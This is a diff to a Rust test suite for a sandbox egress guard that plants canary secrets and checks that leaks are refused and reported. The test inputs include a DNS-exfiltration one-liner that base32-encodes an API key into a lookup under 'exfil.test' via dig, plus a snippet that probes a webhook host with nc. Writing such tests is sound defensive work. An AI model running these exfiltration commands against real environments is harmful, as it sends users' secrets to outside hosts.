@@ -229,7 +229,7 @@ fn a_canary_asked_as_a_dns_name_is_refused_and_trips() {
     let policy = setup(&w);
     let file = w.dir().join("canary.env");
     let report = w.dir().join("canary.json");
-    let leak = "test \"$(cat canary.env)\" = \"CANARY_API_KEY=$CANARY_API_KEY\" && echo file-ok; \
+    let leak = "test \"$(cat canary.env)\" = \"$(printf 'CANARY_API_KEY=%s\\nCANARY_WEBHOOK_URL=%s' \"$CANARY_API_KEY\" \"$CANARY_WEBHOOK_URL\")\" && echo file-ok; \\
         name=$(python3 -c 'import base64,os; e=base64.b32encode(os.environ[\"CANARY_API_KEY\"].encode()).decode().rstrip(\"=\"); print(e[:32]+\".\"+e[32:])'); \
         dig +time=1 +tries=1 \"$name.exfil.test\" >/dev/null; exit 4";
     let mut cmd = exec_command(
@@ -300,6 +300,149 @@ fn a_canary_sent_upstream_under_an_allowed_wildcard_trips() {
     assert_eq!(out.status.code(), Some(99), "{}", show(&out));
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(stderr.contains("(SENT)"), "{}", show(&out));
+}
+
+/// What CMD does with the canary's URL: takes its host and asks for it, then tries port
+/// [`OTHER_PORT`] of it (a connection needs an address: only an allowed host gets one).
+const USE_CANARY_URL: &str = "host=${CANARY_WEBHOOK_URL#https://}; host=${host%%/*}; \
+    echo \"host=$host\"; getent hosts \"$host\" >/dev/null; nc -z -w 2 \"$host\" 9090; exit 99";
+
+/// The canary's URL names a fresh host under `canary.invalid`: asking for it is refused by
+/// the guard and trips the canary (and CMD's own 99 is told apart from the canary's).
+#[test]
+fn a_question_for_the_canary_url_host_is_refused_and_trips() {
+    let w = World::new();
+    let policy = setup(&w);
+    let report = w.dir().join("host.json");
+    let out = exec(
+        &w,
+        &policy,
+        &["--canary", "--report", report.to_str().expect("utf-8 path")],
+        USE_CANARY_URL,
+    );
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let host = stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("host="))
+        .expect("CMD printed the host")
+        .to_string();
+    assert!(
+        host.starts_with("hooks-") && host.ends_with(".canary.invalid"),
+        "{}",
+        show(&out)
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains(&format!("the canary's URL host {host} was asked")),
+        "{}",
+        show(&out)
+    );
+    assert!(
+        stderr.contains("the canary tripped (CMD's own exit code was 99)"),
+        "{}",
+        show(&out)
+    );
+    let json: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("JSON");
+    assert_eq!(json["canary_tripped"], true, "{json}");
+    assert_eq!(json["exit_code"], 99, "{json}");
+    let canary_host = &json["refused"]["canary_host"];
+    assert_eq!(canary_host["host"], host.as_str(), "{json}");
+    assert!(
+        canary_host["url"]
+            .as_str()
+            .is_some_and(|u| u.starts_with(&format!("https://{host}/hook/ck_live_"))),
+        "{json}"
+    );
+    let refused = canary_host["refused_questions"].as_array().expect("a list");
+    assert!(
+        refused
+            .iter()
+            .any(|n| n.as_str().is_some_and(|n| n.eq_ignore_ascii_case(&host))),
+        "{json}"
+    );
+    assert!(
+        !w.dns_queries()
+            .iter()
+            .any(|n| n.to_ascii_lowercase().contains("canary")),
+        "the canary host reached the resolver"
+    );
+
+    // CMD's own 99 without a leak: the canary did not trip, and stderr says whose 99 it is.
+    let out = exec(&w, &policy, &["--canary"], "exit 99");
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("exit 99 is CMD's own: the canary did not trip"),
+        "{}",
+        show(&out)
+    );
+    assert!(stderr.contains("was never asked"), "{}", show(&out));
+}
+
+/// `--canary-host` names a host the policy allows (on [`PORT`] only): its question goes
+/// upstream and trips the canary, and the refused connection to another port of the address
+/// it was answered with is listed under the canary host.
+#[test]
+fn an_allowed_canary_host_trips_and_its_refused_connections_are_listed() {
+    let w = World::new();
+    let text = policy_text().replace(
+        "allow:\n",
+        &format!("allow:\n  - domain: \"hooks.example.test\"\n    ports: [{PORT}]\n"),
+    );
+    let policy = w.write_file("hooks.yaml", &text);
+    w.dns_set("hooks.example.test", &[HOST2_V4], 60);
+    let listener = w.listen_tcp(HOST2_V4, OTHER_PORT);
+    let report = w.dir().join("hooks.json");
+    let out = exec(
+        &w,
+        policy.to_str().expect("utf-8 path"),
+        &[
+            "--canary",
+            "--canary-host",
+            "hooks.example.test",
+            "--report",
+            report.to_str().expect("utf-8 path"),
+        ],
+        &USE_CANARY_URL.replace("exit 99", "exit 3"),
+    );
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+    assert_eq!(listener.count(), 0, "{}", show(&out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("the canary tripped (CMD's own exit code was 3)"),
+        "{}",
+        show(&out)
+    );
+    assert!(stderr.contains("(SENT)"), "{}", show(&out));
+    let json: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("JSON");
+    let canary_host = &json["refused"]["canary_host"];
+    assert!(
+        !canary_host["sent_questions"]
+            .as_array()
+            .expect("a list")
+            .is_empty(),
+        "{json}"
+    );
+    assert!(
+        canary_host["addresses"]
+            .as_array()
+            .expect("a list")
+            .iter()
+            .any(|a| a == &HOST2_V4.to_string()),
+        "{json}"
+    );
+    let refused = canary_host["refused_connections"]
+        .as_array()
+        .expect("a list");
+    assert!(
+        refused
+            .iter()
+            .any(|e| e["dst"] == HOST2_V4.to_string() && e["dport"] == OTHER_PORT),
+        "{json}"
+    );
 }
 
 /// Started by `ip netns exec SANDBOX` (a mount namespace of its own, the sandbox's resolv.conf
